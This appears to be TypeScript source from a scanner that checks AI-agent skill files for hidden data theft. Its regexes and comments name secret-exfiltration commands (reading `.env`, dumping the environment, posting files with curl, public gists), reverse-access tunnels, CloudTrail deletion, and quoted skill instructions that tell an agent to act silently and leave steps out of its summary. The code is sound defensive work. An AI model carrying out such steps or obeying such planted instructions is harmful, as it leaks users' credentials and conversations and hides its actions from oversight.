const MODEL_API_VARIABLE = /^\$?(?:ANTHROPIC|CLAUDE|CLAUDE_CODE|OTEL|OPENAI|AZURE_OPENAI|GEMINI|GOOGLE|VERTEX|BEDROCK|MISTRAL|COHERE|GROQ|DEEPSEEK|XAI|OPENROUTER|TOGETHER|FIREWORKS|HF|HUGGINGFACE|OLLAMA|LITELLM|PERPLEXITY|REPLICATE|CODEX|COPILOT|CURSOR)_/i;

/** Concealment that only waives a confirmation ("does not need a separate confirmation"): of a read-only step, nothing is hidden. */
const ROUTINE_CONSENT = /\b(?:does|do)\s+not\s+need\s+(?:a\s+|any\s+)?(?:separate\s+|extra\s+|explicit\s+|further\s+|its\s+own\s+)?(?:confirmation|approval|permission|consent|sign-?off)\b/i;

/** Lines apart within which two instructions of one section are read as one step. */
const STEP_SPAN = 8;

/**
 * Actions of the skill: each instruction alone, and each Markdown instruction read with its next
 * neighbour in the same section (a "read the key" item followed by a "paste it into the PR" item is one
 * step). Script commands are read alone: data flow in scripts is the source → sink detector's job.
 */
export function actionsOf(instructions: readonly Instruction[]): Action[] {
  const actions: Action[] = [];
  // A pair names something sensitive only if one of its halves does (no word of the vocabulary spans a paragraph break).
  // A paragraph wrapped at a column is one sentence: its soft line breaks are spaces (the vocabulary
  // reads within a line). List items, table rows, headings and fences keep their breaks.
  const texts = instructions.map((instruction) => (instruction.origin === 'prose' || instruction.origin === 'hidden' ? unwrap(withoutQuotedSpeech(instruction.text)) : instruction.text));
  const sensitive = texts.map((text) => namesSomethingSensitive(readable(text)));
  const exports = exportedByFile(instructions);
  // A command inside another's `$(…)` (`op read …` in `export GITEA_TOKEN="$(op read …)"`) is read as part of that line.
  const commandsOnLine = Map.groupBy(
    instructions.filter((instruction) => instruction.origin === 'command'),
    (instruction) => `${instruction.file}\0${instruction.line}`,
  );
  const substituted = instructions.map((instruction) => instruction.origin === 'command' && (commandsOnLine.get(`${instruction.file}\0${instruction.line}`) ?? []).some((other) => other !== instruction && other.text.includes(`$(${instruction.text}`)));
  // Table cells: prose sharing its line with other prose. Two cells of different rows are different items, not one step.
  const proseOnLine = new Map<string, number>();
  for (const instruction of instructions) if (instruction.origin === 'prose') proseOnLine.set(`${instruction.file}\0${instruction.line}`, (proseOnLine.get(`${instruction.file}\0${instruction.line}`) ?? 0) + 1);
  const cell = (instruction: Instruction) => instruction.origin === 'prose' && (proseOnLine.get(`${instruction.file}\0${instruction.line}`) ?? 0) >= 2;
  instructions.forEach((instruction, index) => {
    if (substituted[index]) return;
    const place = { file: instruction.file, line: instruction.line, origin: instruction.origin, documentation: instruction.documentation, exported: exports.get(instruction.file) };
    const alone = sensitive[index] ? readAction(place, texts[index], shown(instruction.text), true) : undefined;
    if (alone) actions.push(alone);
    // The next step: an inline command quoted inside this instruction's own text is part of it, not the next step.
    let after = index + 1;
    while (after < instructions.length && ((instructions[after].origin === 'command' && instruction.origin === 'prose' && instructions[after].file === instruction.file && instruction.text.includes(instructions[after].text)) || substituted[after])) after += 1;
    const next = instructions[after];
    if (!next || (!sensitive[index] && !sensitive[after]) || instruction.script || next.script || next.file !== instruction.file || next.section !== instruction.section || next.line - instruction.line > STEP_SPAN) return;
    if (next.origin === 'decoded' || instruction.origin === 'decoded') return;
    if (cell(instruction) && cell(next) && next.line !== instruction.line) return;
    const pair = readAction({ ...place, documentation: instruction.documentation && next.documentation }, `${texts[index]}\n\n${texts[after]}`, shown(`${instruction.text} ⏎ ${next.text}`));
    if (pair) actions.push(pair);
  });
  actions.push(...sectionChains(instructions, texts));
  exposedThroughTunnels(actions, instructions);
  partiesHeldInVariables(actions, instructions);
  actions.push(...sentToDocumentEndpoint(actions, instructions));
  actions.push(...concealedReferences(actions));
  return actions;
}

/**
 * A step kept from the user that is done "as described in" a linked file ("update the memory note as described in
 * `references/vault-layout.md` … do it silently, and do not list it in the summary"): what that file has the agent do
 * is what is hidden. Each sensitive action of the linked file, carried with the step's concealment.
 */
function concealedReferences(actions: readonly Action[]): Action[] {
  const out: Action[] = [];
  for (const step of actions) {
    if (step.conceal === undefined || step.secret || step.context || step.sink || step.control || step.remote || step.grant || step.defence || step.decodeFollow || step.persist) continue;
    for (const link of (step.fullText ?? step.evidence).matchAll(LINKED_FILE)) {
      const target = (link[1] ?? link[2] ?? link[3])!.replace(/^\.\//, '');
      const hidden = actions.find((action) => action.file === target && action.conceal === undefined && !action.documentation && ((action.secret !== undefined && action.sink !== undefined) || action.context || action.control || action.remote || action.grant || action.defence || action.decodeFollow || action.persist || (action.secret !== undefined && actions.some((other) => other.file === target && other.sink?.kind === 'synced'))));
      if (hidden === undefined) continue;
      const sink = hidden.sink ?? actions.find((other) => other.file === target && other.sink?.kind === 'synced')?.sink;
      out.push({ ...hidden, ...(sink ? { sink } : {}), file: step.file, line: step.line, evidence: shown(`${step.evidence} ⏎ … ⏎ ${hidden.file}:${hidden.line}: ${hidden.evidence}`), conceal: step.conceal });
      break;
    }
  }
  return out;
}

/** A question the agent is told to ask the user, quoted after "Ask" ("Ask: \"Send this to @Priya as a DM?\""). */
const ASKED_QUESTION = /\bask(?:s|ing)?\b(?:\s+(?:the\s+user|them|whether|if))?\s*:?\s*(?:"[^"\n]{1,200}\?"|“[^”\n]{1,200}\?”)/gi;

/** A send the agent asks the user to make ("ask the user to upload them", "have them send it"): the user's own act. */
const USER_ASKED_TO_SEND = /\b(?:ask|tell|have|let|get)\s+(?:the\s+(?:user|writer|author|owner|customer)|them|you)\s+(?:to\s+)?(?=(?:send|post|upload|submit|transmit|forward)\b)/gi;

/** A .env file loaded into the shell's environment (`set -a; . ./.env`, `source .env`, `export $(grep -v '^#' .env | xargs)`). */
const DOTENV_SOURCED = /(?:^|[\s;`(])(?:\.|source)\s+["']?\.?\/?[\w./-]*\.env\b|\bset\s+-a\b|\bexport\s+\$\(\s*(?:grep|cat)\b[^)\n]*\.env\b|\bload_dotenv\s*\(|\bdotenv\b/;
/** A .env file's contents read as data (printed, copied, attached, uploaded whole). */
const WHOLE_DOTENV_READ = /\b(?:cat|type|Get-Content|base64|xxd|tar|zip|gzip|cp|scp|rsync)\s+[^\n|;]*\.env\b|@\.?\/?[\w./-]*\.env\b|\b(?:contents?|whole|entire|full)\s+(?:of\s+)?(?:the\s+)?(?:project'?s\s+)?`?\.env\b/i;

/** An order to send what was just gathered, naming no address ("Send it with `curl`", "POST the block"). */
const SENDS_GATHERED = /\b(?:send|post|upload|submit|transmit|forward)\s+(?:it|them|this|these|that|everything|the\s+(?:whole\s+|full\s+)?(?:block|bundle|message|body|context(?:\s+block)?|payload|request|report|archive|batch|pack(?:age)?))\b/i;

/**
 * A document that names one endpoint in a section of its own (`## Endpoint` … `POST https://host/v1/…`) and, in another,
 * has the agent gather secrets or the conversation and "send it": the gathered data goes to that endpoint. Only a file
 * with one outside host, and only sources that are the user's secrets or conversation, not words about a key.
 */
function sentToDocumentEndpoint(actions: readonly Action[], instructions: readonly Instruction[]): Action[] {
  const out: Action[] = [];
  const byFile = Map.groupBy(actions.filter((action) => !action.documentation && action.origin !== 'decoded'), (action) => action.file);
  for (const [file, own] of byFile) {
    const hosts = new Set(own.flatMap((action) => (action.sink?.kind === 'network' ? action.sink.hosts : [])));
    if (hosts.size !== 1 || own.some((action) => action.userTarget && action.sink !== undefined)) continue;
    const host = [...hosts][0]!;
    const members = instructions.filter((instruction) => instruction.file === file && !instruction.script && !instruction.documentation);
    for (const source of own) {
      // A .env loaded into the shell for the skill's own key (`set -a; . ./.env; set +a`) is the key used, not data gathered.
      // Not when what was loaded is then printed or swept (`env | grep -i token`): that gathers every value.
      if (source.secret !== undefined && DOTENV_FILE.test(` ${source.secret}`) && DOTENV_SOURCED.test(source.fullText ?? source.evidence) && !WHOLE_DOTENV_READ.test(source.fullText ?? source.evidence) && !/(?<![.\w])(?:env|printenv|export\s+-p|declare\s+-[px]|compgen\s+-e)\b/.test(source.fullText ?? source.evidence)) continue;
      if (source.sink || !(source.context || (source.secret && (DOTENV_FILE.test(` ${source.secret}`) || SENSITIVE_FILE.test(source.secret) || ENVIRONMENT_SECRET_SWEEP.test(source.secret) || /\b(?:env|printenv)\b/.test(source.secret))))) continue;
      const section = members.find((instruction) => instruction.line === source.line)?.section;
      if (section === undefined) continue;
      // In the same section, or a later one of the same document ("## Submitting … Send it as the request body").
      // A send the agent asks the user about ("Ask: \"Send this to @Priya as a DM?\"") waits for the answer; it orders nothing.
      // Only the quoted question is set aside: a send said outside it ("Then send it whatever the answer") is still an order.
      // A send the agent asks the user to do ("ask the user to upload them") is the user's, not an order to the agent.
      const sends = (instruction: Instruction) => instruction.line > source.line && instruction.origin === 'prose' && SENDS_GATHERED.test(instruction.text.replace(ASKED_QUESTION, ' ').replace(USER_ASKED_TO_SEND, ' ')) && !/\b(?:https?|wss?):\/\//.test(instruction.text);
      const send = members.find((instruction) => instruction.section === section && sends(instruction)) ?? members.find(sends);
      if (!send) continue;
      const sendText = SENDS_GATHERED.exec(send.text)![0];
      out.push({ ...source, evidence: `${source.evidence} ⏎ ${shown(send.text)}`, fullText: `${source.fullText ?? source.evidence}\n\n${send.text}`, sink: { kind: 'network', text: sendText, hosts: [host] } });
      break;
    }
  }
  return out;
}

/**
 * A grant whose party is a variable the same file fills from a fixed place (`key=$(curl -fsSL https://host/k.pub)`, then
 * `curl -X POST …/ssh-keys -d "{\"key\": \"$key\"}"`): the party is what that place serves, one the skill supplies.
 */
function partiesHeldInVariables(actions: Action[], instructions: readonly Instruction[]): void {
  // The first command of each file that fills a variable from a command's output (`key=$(curl …)`), by file and name; read once.
  let filledBy: Map<string, string> | undefined;
  const fillerOf = (file: string, name: string): string | undefined => {
    if (filledBy === undefined) {
      filledBy = new Map();
      for (const instruction of instructions) {
        const name = instruction.origin === 'command' ? /^\s*(?:local\s+|export\s+)?([A-Za-z_]\w*)=["']?\$\(/.exec(instruction.text)?.[1] : undefined;
        if (name !== undefined && !filledBy.has(`${instruction.file}\0${name}`)) filledBy.set(`${instruction.file}\0${name}`, instruction.text);
      }
    }
    return filledBy.get(`${file}\0${name}`);
  };
  for (const action of actions) {
    if (!action.grant || action.grant.party !== undefined) continue;
    const text = action.fullText ?? action.evidence;
    for (const [, name] of text.matchAll(/\$\{?([A-Za-z_]\w*)/g)) {
      const filled = fillerOf(action.file, name!);
      const party = filled === undefined ? undefined : SKILL_PARTY.exec(filled)?.[0];
      if (party !== undefined) {
        action.grant = { ...action.grant, party };
        break;
      }
    }
  }
}

/** A trail stopped or deleted by the name a command gave it (`aws cloudtrail delete-trail --name "$NAME"`). */
const TRAIL_TEARDOWN = /\bcloudtrail\s+(?:stop-logging|delete-trail)\b[^\n]*?--name[=\s]+["']?([$\w{}.-]+)/;

/**
 * Teardowns of a trail the same program created (`aws cloudtrail create-trail --name "$NAME"` … `delete-trail --name
 * "$NAME"`): the program's own scaffolding, removed, lowers no protection of the user's.
 */
export function withoutOwnTeardowns(actions: Action[], files: readonly SourceFile[]): Action[] {
  const texts = new Map(files.map((file) => [file.path, file.text]));
  return actions.map((action) => {
    // The line as written (the action's text has the script's variables filled in).
    const text = texts.get(action.file) ?? '';
    const name = action.defence === undefined ? undefined : TRAIL_TEARDOWN.exec(text.split('\n')[action.line - 1] ?? '')?.[1];
    if (name === undefined) return action;
    const created = new RegExp(String.raw`\bcloudtrail\s+create-trail\b[^\n]*?--name[=\s]+["']?${escapeRegExp(name)}(?![\w}.-])`).test(text);
    return created ? { ...action, defence: undefined } : action;
  });
}

/**
 * A tunnel whose local end is served by another command of the same script or file (`ttyd bash` on one
 * line, `cloudflared tunnel --url http://localhost:7681` on the next): commands are read one by one, but
 * the tunnel opens what the other serves to anyone who has its address.
 */
function exposedThroughTunnels(actions: Action[], instructions: readonly Instruction[]): void {
  for (const action of actions) {
    if (!action.grant || action.grant.party !== undefined || action.origin !== 'command' || !TUNNEL.test(action.grant.text)) continue;
    const served = instructions.filter((instruction) => instruction.file === action.file && instruction.origin === 'command').map((instruction) => SERVES_MACHINE.exec(instruction.text)?.[0]).find((found) => found !== undefined);
    if (served) action.grant = { ...action.grant, party: `${ANYONE}: ${served.trim()}` };
  }
}

/**
 * Chains a section spreads over paragraphs further apart than one step: a decoder (or a table of
 * fragments to assemble) and, later, the order to run the result; a list of what to collect (the
 * conversation, the system prompt) and, later, the hard-coded place it is sent. Each is read as one
 * action from the two instructions together.
 */
/** A lead-in that fills a part of a document with what commands print ("Fill it with the raw output of these commands"). */
const FILLED_WITH_OUTPUT = /\b(?:fill|populate|paste|put|include|insert|write|record)\w*\s+(?:it|this|that|them|the\s+(?:section|block|part|field))\s+(?:with|from)\s+(?:the\s+)?(?:raw\s+|full\s+|verbatim\s+|unedited\s+|exact\s+|complete\s+)*(?:output|results?)\s+of\b/i;
/** A command that publishes text on a code forge (a release, a pull request, an issue, a gist). */
const FORGE_POST = /\bgh\s+(?:release\s+(?:create|edit)|pr\s+(?:create|edit|comment)|issue\s+(?:create|comment|edit)|gist\s+create)\b|\bgh\s+api\b[^\n]*\b(?:releases|issues|pulls|comments|gists)\b|\bglab\s+(?:release|mr|issue)\s+create\b/;

/** Programs that print a file's contents (`cat`, `grep`, `Get-Content`, `jq`, `base64` …). */
const READS_OUT_FILE = String.raw`\b(?:cat|grep|egrep|rg|head|tail|type|Get-Content|gc|sed|awk|less|more|base64|xxd|jq|yq|strings)\b`;

/** A secret a command prints: a credential file a reading program prints, the environment's secrets, a credential getter's output. */
function commandSecret(text: string): string | undefined {
  const file = new RegExp(READS_OUT_FILE).test(text) ? secretFileIn(text) : undefined;
  return file ?? ENVIRONMENT_SECRET_SWEEP.exec(text)?.[0] ?? CREDENTIAL_GETTER.exec(text)?.[0];
}

/** A file of the skill a text links to (`[references/x.md](references/x.md)`, `` `references/x.md` ``). */
const LINKED_FILE = /\]\(((?:\.\/)?[\w.-]+(?:\/[\w.-]+)*\.(?:md|txt|markdown))(?:#[^)]*)?\)|`((?:\.\/)?(?:references|docs|reference|guides?)\/[\w.\/-]+\.(?:md|txt))`|(?<![\w/.`\[(-])((?:references|reference)\/[\w.\/-]+\.(?:md|txt))\b/g;
/** A command written in a code span that reads a file (`grep -h '_authToken' ~/.npmrc`, `cat .env`). */
const READING_SPAN = new RegExp(String.raw`\x60([^\x60\n]*${READS_OUT_FILE}[^\x60\n]*)\x60`, 'g');

/** The first secret that a file of the skill has the agent read, in a command or a command's code span. */
function secretReadIn(instructions: readonly Instruction[], texts: readonly string[], path: string): { index: number; text: string; secret: string; whole?: boolean } | undefined {
  const inFile = (instruction: Instruction) => instruction.file === path || instruction.file.endsWith(`/${path}`);
  for (let index = 0; index < instructions.length; index += 1) {
    const instruction = instructions[index];
    if (!inFile(instruction)) continue;
    const spans = instruction.origin === 'command' ? [texts[index]] : [...texts[index].matchAll(READING_SPAN)].map((match) => match[1]!);
    for (const span of spans) {
      const secret = commandSecret(span) ?? (ENVIRONMENT_DUMP.test(span) && !SECRETS_FILTERED_OUT.test(span) ? WHOLE_ENVIRONMENT : undefined);
      if (secret !== undefined) return { index, text: span, secret };
    }
    // Words that gather a file's contents ("concatenation of `.env`, `.env.local`", "the contents of `~/.npmrc`").
    const gathered = instruction.origin === 'prose' ? /\b(?:contents?|concatenation|copy|dump|text)\s+of\s+(?:the\s+)?`([^`\n]+)`/.exec(texts[index]) : null;
    const named = gathered ? secretFileIn(gathered[1]!) : undefined;
    if (named !== undefined) return { index, text: gathered![0], secret: named };
  }
  // A template whose holes ask for a secret's contents (`<full text of ~/.npmrc>`, `<output of: gh auth status --show-token>`).
  for (let index = 0; index < instructions.length; index += 1) {
    if (!inFile(instructions[index])) continue;
    const hole = secretHole(texts[index]);
    if (hole !== undefined) return { index, text: texts[index], secret: hole, whole: true };
  }
  // In words: a step that names stored secrets (`.env` files, `AWS_` variables) and, in the same section, the order to keep
  // their values whole ("Leave the other values intact — tokens, keys and connection strings …").
  for (let index = 0; index < instructions.length; index += 1) {
    const instruction = instructions[index];
    if (instruction.origin !== 'prose' || !inFile(instruction) || !namesStoredSecret(texts[index]) || NAMES_ONLY.test(texts[index])) continue;
    const kept = instructions.findIndex((other, at) => other.file === instruction.file && other.section === instruction.section && other.origin === 'prose' && SECRET_VALUES_NAMED.test(texts[at]) && VALUES_KEPT.test(texts[at]) && !NAMES_ONLY.test(texts[at]));
    if (kept >= 0) return { index, text: `${texts[index]} … ${texts[kept]}`, secret: secretFileIn(texts[index]) ?? SECRET_VALUES_NAMED.exec(texts[kept])![0], whole: true };
  }
  return undefined;
}

/** Secret values kept whole ("leave the other values intact", "keep the values as they are", "do not redact tokens"). */
const VALUES_KEPT = /\b(?:values?|them|tokens?|keys?|secrets?)\s+(?:\w+\s+){0,2}?(?:intact|unchanged|unredacted|unmasked|as\s+(?:they|it)\s+(?:are|is))\b|\b(?:leave|keep)\s+(?:the\s+)?(?:other\s+|remaining\s+|real\s+)?values\b|(?:do\s+not|don't|never)\s+(?:redact|mask|strip|hide)\w*\s+(?:the\s+)?(?:tokens?|keys?|values?|secrets?|credentials?)\b/i;

/** Words that put what is gathered into an address ("in the URL", "as the `ctx` query parameter", "the link's query string"). */
const CONTEXT_INTO_ADDRESS = /\b(?:in(?:to)?|as|inside)\s+(?:the\s+|a\s+|its\s+)?(?:(?:card|image|badge|link|request|render|preview)\s+)?(?:URL|URI|address|query(?:\s+string|\s+param(?:eter)?s?)?|param(?:eter)?s?|link|src)\b|\bURL-?encod\w*/i;
/** Secret values named as material ("connection strings", "environment variable values", "API keys"). */
const SECRET_VALUES_NAMED = /\b(?:connection\s+strings?|environment\s+variable\s+values|env(?:ironment)?\s+values|api\s+keys?|access\s+tokens?|tokens?|passwords?|credentials?|secrets?)\b/i;
/** The conversation named as material ("build it from this conversation", "the user's own messages"). */
const CONVERSATION_NAMED = /\b(?:from|of|with)\s+(?:(?:this|the|current|whole|entire|full|our)\s+)+(?:conversation|chat|session)\b(?!\s+(?:ids?|tokens?|cookies?|keys?|state|storage|manager))|\bthe\s+user'?s\s+(?:own\s+)?(?:messages|prompts|questions|requests)\b|\b(?:everything|all|whatever|what)\s+(?:the\s+user|you|they)\s+(?:have\s+|has\s+)?(?:typed|wrote|written|said|pasted|asked)\b/i;
/** The user's material or people's details as a value ("the normalised sticky text", "the pasted discussion", "any names, emails, customer names"). */
const USER_MATERIAL = /\b(?:e-?mail\s+addresses|(?:names|e-?mails)\s*(?:,|and|or)\s*(?:e-?mails|names|phone\s+numbers)|phone\s+numbers|customer\s+names|personal\s+(?:data|details|information)|incident\s+details|(?:the\s+)?(?:normali[sz]ed|raw|full|entire|whole|complete|original|verbatim)\s+(?:[\w-]+\s+){0,2}?(?:transcript|discussion|notes|messages|conversation|chat|thread|prompts)|pasted\s+(?:[\w-]+\s+)?(?:discussion|notes|messages?|thread|transcript|conversation)|(?:sticky|stickies|meeting|discussion|transcript|chat|thread|ticket|message)\s+(?:text|bodies|body|contents?)|(?:the\s+)?user'?s\s+(?:\w+\s+){0,3}?(?:prompts|messages|questions|requests)|prompts?,?\s+(?:verbatim|word\s+for\s+word|in\s+full))\b/i;
/** An address with query parameters, or a base address that parameters are added to ("Base: `https://…`", `?n=…&ctx=…`). */
const ADDRESS_WITH_PARAMETERS = /https?:\/\/[^\s`'")<>]+\?[\w.%-]+=|\b(?:base|endpoint|url)\b\s*(?:url\s*)?[:=]\s*`?https?:\/\//i;

/** The conversation taken whole, not summarised ("the complete text of this conversation so far", "every user message", "verbatim"). */
const WHOLE_CONVERSATION = /\btranscript_path\b|\$\{?CLAUDE_TRANSCRIPT|\b(?:complete|entire|full|whole|raw|unedited)\s+(?:text\s+of\s+)?(?:(?:this|the|our|your)\s+)?(?:(?:current|present|ongoing|active|live)\s+)?(?:conversation|chat|session|transcript)\b|\bfrom\s+(?:their|the\s+user'?s|your)\s+(?:very\s+)?first\s+message\b|\bdo\s+not\s+(?:summari[sz]e|abridge|paraphrase|condense)\b|\bevery\s+(?:user\s+)?message\b|\b(?:conversation|chat|transcript|messages)\b[^.\n]{0,60}\b(?:verbatim|word\s+for\s+word|not\s+a\s+summary)\b/i;

/** Values of secrets written in ("the full value of", "put the key value in", "the resolved target … with its credential part"). */
const SECRET_VALUES_WHOLE = /\b(?:full|whole|entire|complete|actual|real|resolved|raw)\s+(?:\w+\s+)?values?\b|\b(?:full|whole|entire|complete|actual|real|resolved|raw)\s+(?:connection\s+strings?|passwords?|tokens?|api\s+keys?|credentials?|secrets?|DSNs?)\b|\b(?:key|token|secret|password|credential)\s+values?\b|\bvalues?\s+(?:of|from)\s+(?:each\s+|every\s+|the\s+)?`?\$?[A-Z][A-Z0-9]*_[A-Z0-9_]+/i;
/** An address at a host whose path or query is filled from what the skill makes (`https://host/svg/<encoded>`, `?d={{diagram}}`). */
const FILLED_ADDRESS = /https?:\/\/[^\s`'")<>]+(?:\/|\?[\w.%-]+=|&[\w.%-]+=)(?:<[\w -]{1,40}>|\{\{?\s*[\w.-]{1,40}\s*\}?\}|\$\{?[A-Za-z_]\w*\}?)/;
/** Where a command puts what it reads: its redirection target (`> "$bundle/kubeconfig"`) or a copy's destination. */
function stagedInto(text: string): string | undefined {
  const redirected = /(?<![<>&\d])>>?\s*("[^"\n]+"|'[^'\n]+'|[^\s;&|]+)/.exec(text)?.[1];
  if (redirected !== undefined && !/^["']?\/dev\//.test(redirected)) return redirected.replace(/^["']|["']$/g, '');
  // A copy's destination is its last operand (`cp ~/.npmrc ~/.pypirc env/`), before any redirection or next command.
  const copy = /\b(?:cp|install|rsync)\s+(?:-\S+\s+)*((?:(?:"[^"\n]+"|'[^'\n]+'|(?!\d?[<>])[^\s;&|<>]+)\s*){2,})/.exec(text)?.[1];
  const operands = copy === undefined ? [] : [...copy.matchAll(/"[^"\n]+"|'[^'\n]+'|[^\s;&|<>]+/g)].map((operand) => operand[0]).filter((operand) => !/^\d$/.test(operand));
  return operands.length >= 2 ? operands.at(-1)!.replace(/^["']|["']$/g, '') : undefined;
}

/** Context that is the user's repositories or code ("private repos", "internal code"). */
const REPOSITORY_CONTEXT = /\b(?:repos?|repositor(?:y|ies)|code|source|codebase)\b/i;
/** The API hosts of code forges, where the user's repositories live. */
const CODE_FORGE_API = /^(?:api\.github\.com|github\.com|uploads\.github\.com|gitlab\.com|api\.bitbucket\.org|bitbucket\.org|dev\.azure\.com|codeberg\.org)$/i;

/** A command that packs files into one (`tar`, `zip`, `7z a`, `gzip`). */
const ARCHIVES = /\b(?:tar|zip|7z|7za|gzip|xz|zstd)\s/;
/** Other programs that pack a folder into an archive, and the archive they write (`python3 -m zipfile -c out.zip dir/`, `ditto -c -k dir out.zip`). */
const PACKS_ARCHIVE = /\bpython\d?(?:\.\d+)?\s+-m\s+(?:zipfile|tarfile)\s+-c\s+["']?([^\s"';&|]+)|\bditto\s+-c\b[^\n;&|]*\s["']?([^\s"';&|]+\.(?:zip|cpgz|cpio))["']?\s*$/;
/** The file an archive step writes: its redirection target, tar's `f` argument, or zip's and 7z's first operand. */
function archiveMade(text: string): string | undefined {
  const made = /\btar\s+(?:--?[\w-]+(?:=\S+)?\s+)*-?[A-Za-z]*f[A-Za-z]*\s+("[^"\n]+"|'[^'\n]+'|(?:\$\([^)\n]*\)|[^\s;&|])+)/.exec(text)?.[1] ?? /\b(?:zip|7za?\s+a)\s+(?:-\S+\s+)*("[^"\n]+"|'[^'\n]+'|[^\s;&|-](?:\$\([^)\n]*\)|[^\s;&|])*)/.exec(text)?.[1] ?? stagedInto(text);
  return made?.replace(/^["']|["']$/g, '');
}
/** A path as a pattern that matches it whole (not inside a longer name). */
function literalPath(path: string): RegExp {
  return new RegExp(`(?<![\\w.-])${escapeRegExp(path)}(?![\\w.-])`);
}

/**
 * An archive's name as a pattern that finds it where a later step names it: whole, or, when part of the name is made at
 * run time (`support-$(date +%Y%m%d).tgz`, `bundle-${STAMP}.zip`), by the fixed text around it, whatever stands in
 * for the rest (`support-<stamp>.tgz`, `support-*.tgz`).
 */
function archivePattern(name: string): RegExp {
  const parts = name.split(/\$\([^)]*\)|\$\{[^}]*\}|\$[A-Za-z_]\w*|<[^>]*>|\*/);
  if (parts.length < 2) return literalPath(name);
  const [head, tail] = [parts[0]!, parts.at(-1)!];
  if (head.length + tail.length < 5) return literalPath(name);
  return new RegExp(`(?<![\\w.-])${escapeRegExp(head)}[^\\s"'/]{1,60}?${escapeRegExp(tail)}(?![\\w.-])`);
}

/** Text that names where stored secrets are: a secret file, an env file, or a variable whose name says it is secret. */
function namesStoredSecret(text: string): boolean {
  return SENSITIVE_FILE.test(text) || DOTENV_FILE.test(text) || [...text.matchAll(BARE_VARIABLE)].some((variable) => SECRET_ENV_NAME.test(variable[0]));
}

/** A request that carries data (`curl … -d …`, `--data-binary`, a form, an upload, `-X POST`). */
const REQUEST_WITH_DATA = /\b(?:curl|wget|http|xh|Invoke-RestMethod|Invoke-WebRequest|iwr|irm)\b[^\n]*(?:\s-d\b|--data\b|--data-\w+|\s-F\b|--form\b|\s-T\b|--upload-file\b|-X\s*(?:POST|PUT)\b|-Method\s+(?:Post|Put)\b|--post-(?:data|file)\b)/i;

/** Inline code that prints the whole environment (`` `env \| sort` ``, `` `printenv` ``), as a table cell names it. */
const ENVIRONMENT_DUMP_CODE = /`\s*(?:env|printenv|export\s+-p)\s*(?:\\?\|\s*(?:sort|cat|tee|uniq)(?:\s+-{1,2}[\w-]+)*(?:\s+[\w./-]+)?\s*)?`/;
/** A cell that keeps a secret out of a file ("never a copy of `.env`", "without `printenv` output"). */
const KEPT_OUT_CELL = /\b(?:never|not|no|without|exclud\w*|omit\w*|redact\w*|mask\w*|strip\w*|names?\s+only)\b/i;
/** A list item that says what a file holds: `` `vars.txt`: `printenv` output ``, `settings.env — a copy of .env`. */
const LISTED_FILE = /^\s*`?((?:[\w.-]+\/)*[\w.-]*\.[a-z]{1,6})`?\s*(?::|—|–|\s-)\s+(.+)$/i;
/** A table cell that is one file's name (`` `config.env` ``, `environment.txt`). */
const FILE_NAME_CELL = /^\s*`?(?:[\w.-]+\/)*[\w.-]*\.[a-z]{1,6}`?\s*$/i;

/** A line of three words or fewer ("Nextcloud", "Syncthing shares"): a title or a label, which names a place without sending anything there. */
function namesOnly(line: string): boolean {
  return (line.match(/[A-Za-z][\w'-]*/g) ?? []).length <= 3;
}

function sectionChains(instructions: readonly Instruction[], texts: readonly string[]): Action[] {
  const sections = new Map<string, number[]>();
  instructions.forEach((instruction, index) => {
    if (instruction.script || instruction.origin === 'decoded') return;
    const key = `${instruction.file}\0${instruction.section}`;
    const members = sections.get(key);
    if (members) members.push(index);
    else sections.set(key, [index]);
  });
  const out: Action[] = [];
  // The push of the skill's main flow (SKILL.md of the same skill as `file`, when `file` is another of its files).
  const skillMdPush = (file: string): number | undefined => {
    const folder = file.includes('/') ? file.slice(0, file.indexOf('/') + 1) : '';
    const index = instructions.findIndex((instruction, at) => instruction.file !== file && /(?:^|\/)SKILL\.md$/i.test(instruction.file) && (folder === '' || !instruction.file.includes('/') || instruction.file.startsWith(folder)) && !instruction.documentation && !instruction.script && PUSHES_COMMIT.test(texts[at]!));
    return index < 0 ? undefined : index;
  };
  // The commands of each file in order: what one step stages, a later section of the same file may pack and send.
  const fileCommands = Map.groupBy(
    [...instructions.keys()].filter((index) => !instructions[index].script && instructions[index].origin === 'command'),
    (index) => instructions[index].file,
  );
  // Inputs a table names and fills with secrets (`| Publisher profile | full text of ~/.npmrc … |`): a later
  // step that uses the input by its name ("<Publisher profile input, verbatim>") uses the secrets.
  const secretLabels = new Map<string, { label: string; holds: string }[]>();
  const rows = Map.groupBy(
    instructions.filter((instruction) => !instruction.script && instruction.origin === 'prose'),
    (instruction) => `${instruction.file}\0${instruction.line}`,
  );
  // Files a table says to fill with secrets (`| environment.txt | `env \| sort` from your shell |`, `| config.env | the project's `.env` |`).
  const secretFiles: { file: string; name: string; holds: string; row: number }[] = [];
  for (const [key, row] of rows) {
    const cells = row.map((instruction) => instruction.text);
    if (cells.length < 2) continue;
    const label = cells[0].replace(/[`*_]/g, '').trim();
    const file = key.split('\0')[0];
    const secretCell = cells.slice(1).some((cell) => SENSITIVE_FILE.test(cell) || DOTENV_FILE.test(` ${cell}`));
    const holds = cells.slice(1).map((cell) => secretFileIn(cell)).find((found) => found !== undefined) ?? '';
    // What the file holds is the cell beside its name, unless that cell keeps the secret out ("never a copy of `.env`").
    const content = cells[1]!;
    const filled = !KEPT_OUT_CELL.test(content) && (SENSITIVE_FILE.test(content) || DOTENV_FILE.test(` ${content}`) || ENVIRONMENT_DUMP_CODE.test(content));
    if (filled && FILE_NAME_CELL.test(cells[0])) secretFiles.push({ file, name: label, holds: secretFileIn(content) ?? WHOLE_ENVIRONMENT, row: instructions.indexOf(row[0]!) });
    if (!secretCell || label.length < 4 || label.length > 40 || !/[a-z]/i.test(label)) continue;
    secretLabels.set(file, [...(secretLabels.get(file) ?? []), { label: label.toLowerCase(), holds }]);
  }
  // The same as a list item (`- \`vars.txt\`: \`printenv\` from your shell`).
  instructions.forEach((instruction, index) => {
    if (instruction.script || instruction.origin !== 'prose' || (rows.get(`${instruction.file}\0${instruction.line}`)?.length ?? 0) > 1) return;
    const item = LISTED_FILE.exec(instruction.text);
    if (!item || KEPT_OUT_CELL.test(item[2]!) || !(SENSITIVE_FILE.test(item[2]!) || DOTENV_FILE.test(` ${item[2]}`) || ENVIRONMENT_DUMP_CODE.test(item[2]!))) return;
    secretFiles.push({ file: instruction.file, name: item[1]!, holds: secretFileIn(item[2]!) ?? WHOLE_ENVIRONMENT, row: index });
  });
  // Such a file published by name (`gh gist create --public … environment.txt config.env`, `curl -F f=@config.env …`), in this
  // document or another of the skill's: what the table put in it leaves with it, whatever section the command is in.
